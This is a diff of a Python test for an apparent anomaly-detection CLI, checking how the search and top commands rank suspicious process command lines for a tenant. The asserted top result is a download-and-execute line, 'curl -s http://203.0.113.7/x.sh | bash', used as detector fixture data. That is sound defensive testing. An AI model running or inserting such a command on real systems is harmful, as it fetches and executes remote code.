@@ -55,15 +55,15 @@ def test_search_and_top_over_http_per_tenant(tenant_stack: Stack, monkeypatch: p
                              monkeypatch, capsys)
     assert code == 0, err
     results = json.loads(out)["results"]
-    assert any("curl" in result["command_line"] for result in results[:3])
+    assert results[0]["command_line"] == "sh -c curl -s http://203.0.113.7/x.sh | bash"
     assert all(result["workload"] == "web" for result in results)
-    assert [r["distance"] for r in results] == sorted(r["distance"] for r in results)
+    assert [r["relevance"] for r in results] == sorted((r["relevance"] for r in results), reverse=True)
 
     code, out, err = run_cli(["top", "--endpoint", endpoint, "--min-score", "0", "--since", "1h"], TOKENS["team-a"],
                              monkeypatch, capsys)
     assert code == 0, err
     lines = out.splitlines()
-    assert lines[0] == "Top anomalies since 1h (score >= 0):"
+    assert lines[0] == "Top anomalies since 1h (score >= 0, by incident):"
     assert "sh -c curl -s http://203.0.113.7/x.sh | bash" in "\n".join(lines[1:4])  # ranked at the top
     assert "why: " in out and "lineage: " in out
 
